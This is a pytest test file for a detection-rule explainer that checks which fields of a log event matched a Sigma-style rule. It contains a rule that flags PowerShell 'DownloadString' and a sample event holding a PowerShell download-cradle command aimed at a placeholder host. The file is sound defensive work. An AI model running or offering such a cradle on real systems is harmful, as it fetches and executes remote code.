from __future__ import annotations

from pathlib import Path

import pytest

from desktop_app.core.database import Connection
from desktop_app.core.rules import catalogue
from desktop_app.core.rules.explain import Event, Held, explain
from tests.core.rules.writing import correlation_of, folder_with, id_of

PROCESS = f"""title: Odd child
id: {id_of(1)}
name: odd
level: high
logsource: {{product: windows, category: process_creation}}
detection:
    sel:
        Image|endswith: ['\\cmd.exe', '\\powershell.exe']
        CommandLine|contains: 'DownloadString'
    other:
        User|startswith: 'nobody'
    not_wanted:
        ParentImage|endswith: '\\explorer.exe'
    condition: (sel or other) and not not_wanted
"""
IMAGE = "C:\\Windows\\PowerShell.exe"
LINE = "powershell (new-object net.webclient).downloadstring('http://x')"


@pytest.fixture
def known(db: Connection, tmp_path: Path) -> Connection:
    catalogue.import_rules(db, folder_with(tmp_path / "p", a=PROCESS, b=correlation_of(2, "odd")))
    return db


def parts(held: list[Held]) -> list[tuple[str, str]]:
    return [(one.field, one.part) for one in held]


def test_only_what_holds_is_told_with_the_part_that_matched(known: Connection) -> None:
    found = explain(known, id_of(1), Event({"Image": IMAGE, "CommandLine": LINE, "User": "x"}), "en")
    assert parts(found) == [("Image", "\\PowerShell.exe"), ("CommandLine", "downloadstring")]
    assert found[0].words == "Image ends with “\\powershell.exe”"
    assert "".join(found[1].pieces) == LINE


def test_fields_are_found_under_the_names_of_another_log(known: Connection) -> None:
    found = explain(known, id_of(1), Event({"NewProcessName": IMAGE, "CommandLine": LINE}), "zh")
    assert parts(found)[0] == ("NewProcessName", "\\PowerShell.exe")
    assert "结尾" in found[0].words


def test_a_rule_that_does_not_hold_of_the_event_explains_nothing(known: Connection) -> None:
    assert explain(known, id_of(1), Event({"Image": IMAGE}), "en") == []
    denied = {"Image": IMAGE, "CommandLine": LINE, "ParentImage": "C:\\explorer.exe"}
    assert explain(known, id_of(1), Event(denied), "en") == []
    assert explain(known, "nothing", Event({}), "en") == []


def test_a_correlation_is_explained_by_the_rules_that_it_counts(known: Connection) -> None:
    found = explain(known, id_of(2), Event({"Image": IMAGE, "CommandLine": LINE}), "en")
    assert parts(found)[1] == ("CommandLine", "downloadstring")


@pytest.mark.parametrize(
    ("detection", "fields", "told"),
    [
        ("words: ['root']", {"message": "for ROOT from"}, [("", "ROOT")]),
        ("s: {a: 'x*yz'}", {"a": "x--yz"}, [("a", "yz")]),
        ("s: {a|re: 'b+'}", {"a": "abbc"}, [("a", "abbc")]),
        ("s: {a|exists: true}", {"a": "1"}, [("a", "1")]),
        ("s: {a|fieldref: b}", {"a": "1", "b": "1"}, [("a", "1")]),
        ("s: {a|cidr: 10.0.0.0/8}", {"a": "10.1.1.1"}, [("a", "10.1.1.1")]),
    ],
)
def test_each_kind_of_test_names_its_part(
    db: Connection, tmp_path: Path, detection: str, fields: dict[str, str], told: list[tuple[str, str]]
) -> None:
    name = detection.partition(":")[0]
    body = f"title: t\nid: {id_of(3)}\nlogsource: {{product: linux}}\ndetection:\n  {detection}\n  condition: {name}\n"
    catalogue.import_rules(db, folder_with(tmp_path / "p", a=body))
    assert parts(explain(db, id_of(3), Event(fields), "en")) == told
